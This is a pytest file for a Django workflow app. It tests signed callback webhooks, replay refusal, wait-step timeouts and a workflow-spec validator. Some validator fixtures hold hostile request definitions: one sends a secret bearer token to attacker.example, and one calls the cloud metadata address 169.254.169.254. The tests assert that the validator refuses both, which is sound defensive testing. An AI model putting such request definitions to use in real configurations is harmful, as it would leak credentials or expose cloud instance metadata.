"""A step that waits for another system to call back: the customer's system completes it through
a signed inbound webhook; nobody calling back in time puts the case in the exception queue."""

import json
import time
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from apps.audit.models import Action
from apps.automation.models import ExceptionCategory, StepRun, StepStatus
from apps.automation.services import step_retry
from apps.cases.models import CaseState
from apps.core.errors import ValidationFailed
from apps.definitions.spec import validate_spec
from apps.integrations import endpoints
from apps.integrations.models import InboundDelivery
from apps.integrations.services import webhook_sign
from tests.conftest import events, open_tasks, reload

from .conftest import APPROVAL, FIELDS

SECRET = "whsec_" + "c" * 40
WAIT = {
    "key": "customer",
    "name": "Wait for the customer",
    "type": "wait",
    "system": "Customer portal",
    "timeout_hours": 48,
}
FIELDS_WITH_ANSWER = [*FIELDS, {"name": "customer_answer", "type": "choice", "choices": ["accept", "decline"]}]


@pytest.fixture
def waiting_flow(publish):
    return publish("invoice-wait", [WAIT, APPROVAL], fields=FIELDS_WITH_ANSWER)


@pytest.fixture
def callback_endpoint(demo, waiting_flow):
    portal = get_user_model().objects.create_user("customer-portal")
    return endpoints.endpoint_create(
        actor=demo["admin"],
        slug="customer-replies",
        name="Customer replies",
        workflow=waiting_flow,
        run_as=portal,
        field_map={"customer_answer": "answer"},
        secret=SECRET,
        action="complete_step",
        step="customer",
        case_path="reference.case",
    )


@pytest.fixture
def callback(client):
    def _callback(case_id, *, answer="accept", delivery="cb-1", secret=SECRET):
        body = json.dumps({"reference": {"case": case_id}, "answer": answer}).encode()
        timestamp = int(time.time())
        return client.post(
            "/api/v1/hooks/customer-replies/",
            data=body,
            content_type="application/json",
            HTTP_X_WMS_TIMESTAMP=str(timestamp),
            HTTP_X_WMS_SIGNATURE=webhook_sign(secret=secret, delivery=delivery, timestamp=timestamp, body=body),
            HTTP_X_WMS_DELIVERY=delivery,
        )

    return _callback


def test_the_customers_callback_resumes_the_case_once(start_invoice, waiting_flow, callback_endpoint, callback):
    case = reload(start_invoice(waiting_flow))
    assert case.state == CaseState.WAITING
    assert case.route["summary"] == "Waiting on Customer portal: Wait for the customer."
    assert open_tasks(case) == []

    assert callback(case.pk, secret="wrong-" + SECRET).status_code == 401
    assert reload(case).state == CaseState.WAITING
    accepted = callback(case.pk)
    assert accepted.status_code == 202, accepted.json()

    case = reload(case)
    assert case.data["customer_answer"] == "accept"
    assert case.state == CaseState.APPROVAL and len(open_tasks(case)) == 1
    resumed = events(case, Action.STEP_CALLBACK)[0]
    assert resumed.context == {"delivery": "cb-1", "fields": ["customer_answer"]}
    # A replay and a second callback with a fresh id: refused, no second effect.
    assert callback(case.pk).status_code == 409
    second = callback(case.pk, answer="decline", delivery="cb-2")
    assert second.status_code == 409
    assert "not waiting" in second.json()["detail"]
    assert reload(case).data["customer_answer"] == "accept"
    assert len(open_tasks(case)) == 1
    assert list(InboundDelivery.objects.order_by("pk").values_list("accepted", flat=True)) == [
        False,
        True,
        False,
        False,
    ]


def test_a_callback_for_an_unknown_case_or_with_bad_data_is_refused(
    start_invoice, waiting_flow, callback_endpoint, callback
):
    case = start_invoice(waiting_flow)
    assert callback(999999).status_code == 404
    bad = callback(case.pk, answer="maybe")
    assert bad.status_code == 400
    assert "customer_answer" in bad.json()["errors"]
    assert reload(case).state == CaseState.WAITING


def test_nobody_calling_back_in_time_is_a_timeout_exception(start_invoice, waiting_flow, sweep, demo, run_committed):
    case = start_invoice(waiting_flow)
    sweep(at=timezone.now() + timedelta(hours=47))
    assert reload(case).state == CaseState.WAITING
    sweep(at=timezone.now() + timedelta(hours=49))

    run = StepRun.objects.get(case=case)
    assert (run.status, run.category) == (StepStatus.EXCEPTION, ExceptionCategory.TIMEOUT)
    assert run.last_error == "No callback from Customer portal within 48 hours."
    assert reload(case).state == CaseState.EXCEPTION

    run_committed(step_retry, run_id=run.pk, actor=demo["oscar"], note="Customer promised to answer today")
    run = StepRun.objects.get(pk=run.pk)
    assert run.status == StepStatus.WAITING
    assert run.next_attempt_at > timezone.now() + timedelta(hours=47)
    assert reload(case).state == CaseState.WAITING


def test_a_callback_endpoint_must_name_a_wait_step(demo, waiting_flow):
    with pytest.raises(ValidationFailed) as invalid:
        endpoints.endpoint_create(
            actor=demo["admin"],
            slug="nope",
            name="Nope",
            workflow=waiting_flow,
            run_as=demo["alice"],
            field_map={},
            action="complete_step",
            step="approval",
        )
    assert invalid.value.field_errors["step"] == ["The live version of the workflow has no wait step with this key."]


def test_the_validator_names_what_is_wrong_with_a_step():
    spec = {
        "fields": FIELDS,
        "stages": [
            {
                "key": "erp",
                "name": "ERP",
                "type": "http",
                "system": "ERP",
                "request": {
                    "method": "FETCH",
                    "url": "{{endpoint.ERP}}/x/{{field.nope}}",
                    "headers": {"Authorization": "Bearer hunter2"},
                },
                "timeout_seconds": 120,
                "retry": {"attempts": 0, "retry_on": [200]},
                "response": {"map": {"unknown": "id"}},
                "on_failure": "shrug",
            },
            APPROVAL,
        ],
    }
    problems = validate_spec(spec)
    assert problems == [
        "Stage 'erp', request: method 'FETCH' is not one of GET, POST, PUT, PATCH, DELETE.",
        "Stage 'erp', request: put credentials in the environment and refer to them as {{secret.NAME}}.",
        "Stage 'erp', request: unknown field 'nope' in {{field.nope}}.",
        "Stage 'erp': timeout_seconds must be above 0 and at most 50.",
        "Stage 'erp': retry attempts must be a whole number from 1 to 20.",
        "Stage 'erp': retry_on must list HTTP status codes from 400 to 599.",
        "Stage 'erp': the response map writes unknown field 'unknown'.",
        "Stage 'erp': on_failure must be one of exception_queue, fail_case.",
    ]
    assert validate_spec({"fields": FIELDS, "stages": [WAIT]}) == [
        "Add at least one approval stage: automated steps alone decide nothing."
    ]


def test_integrators_create_a_callback_endpoint_from_the_command_line(demo, waiting_flow):
    from io import StringIO

    from django.core.management import CommandError, call_command

    from apps.integrations.models import InboundEndpoint

    get_user_model().objects.create_user("portal-bot")
    out = StringIO()
    call_command(
        "inbound_endpoint",
        "--by=admin",
        "--slug=replies",
        "--name=Replies",
        f"--workflow={waiting_flow}",
        "--run-as=portal-bot",
        "--action=complete_step",
        "--step=customer",
        "--map=customer_answer=answer",
        stdout=out,
    )
    endpoint = InboundEndpoint.objects.get(slug="replies")
    assert (endpoint.action, endpoint.step, endpoint.case_path) == ("complete_step", "customer", "case_id")
    assert endpoint.secret in out.getvalue()
    with pytest.raises(CommandError, match="step: The live version of the workflow has no wait step"):
        call_command(
            "inbound_endpoint",
            "--by=admin",
            "--slug=replies2",
            "--name=Replies",
            f"--workflow={waiting_flow}",
            "--run-as=portal-bot",
            "--action=complete_step",
            "--step=nope",
        )
    with pytest.raises(CommandError, match="not field=dotted.path"):
        call_command(
            "inbound_endpoint", "--by=admin", "--slug=x", "--name=X", "--workflow=w", "--run-as=a", "--map=oops"
        )


def test_numbers_that_are_no_numbers_and_secrets_sent_elsewhere_are_refused():
    wait = {**WAIT, "timeout_hours": "NaN"}
    assert validate_spec({"fields": FIELDS, "stages": [wait, APPROVAL]}) == [
        "Stage 'customer': timeout_hours must be a number of hours above 0 and at most 8760."
    ]
    leak = {
        "key": "leak",
        "name": "Leak",
        "type": "http",
        "system": "X",
        "request": {"url": "https://attacker.example/x", "headers": {"Authorization": "Bearer {{secret.ERP_TOKEN}}"}},
        "retry": {"backoff_seconds": "Infinity"},
    }
    metadata = {
        **leak,
        "key": "meta",
        "request": {"method": "GET", "url": "http://169.254.169.254/latest"},
        "retry": {},
    }
    assert validate_spec({"fields": FIELDS, "stages": [leak, metadata, APPROVAL]}) == [
        "Stage 'leak', request: a request that sends a secret must go to a configured endpoint"
        " ({{endpoint.NAME}}), so a definition cannot send credentials anywhere else.",
        "Stage 'leak': backoff_seconds must be above 0 and max_backoff_seconds at least as large"
        " and at most 86400 (a day).",
        "Stage 'meta', request: 169.254.169.254 is a cloud metadata address:"
        " only public addresses can be called from here. Configure it as {{endpoint.NAME}}.",
    ]


def test_operators_see_every_inbound_call_and_why_it_was_refused(
    client, demo, start_invoice, waiting_flow, callback_endpoint, callback
):
    case = start_invoice(waiting_flow)
    callback(case.pk, secret="wrong-" + SECRET)
    callback(case.pk)
    client.force_login(demo["oscar"])
    body = client.get("/integrations/inbound/").content.decode()
    assert "/api/v1/hooks/customer-replies/" in body and "Complete a waiting step" in body
    assert "The signature does not match." in body and f"Case {case.pk}: step customer completed." in body
    refused = client.get("/integrations/inbound/?show=refused").content.decode()
    assert "The signature does not match." in refused and "step customer completed" not in refused
    assert SECRET not in body
    client.force_login(demo["alice"])
    assert client.get("/integrations/inbound/").status_code == 403
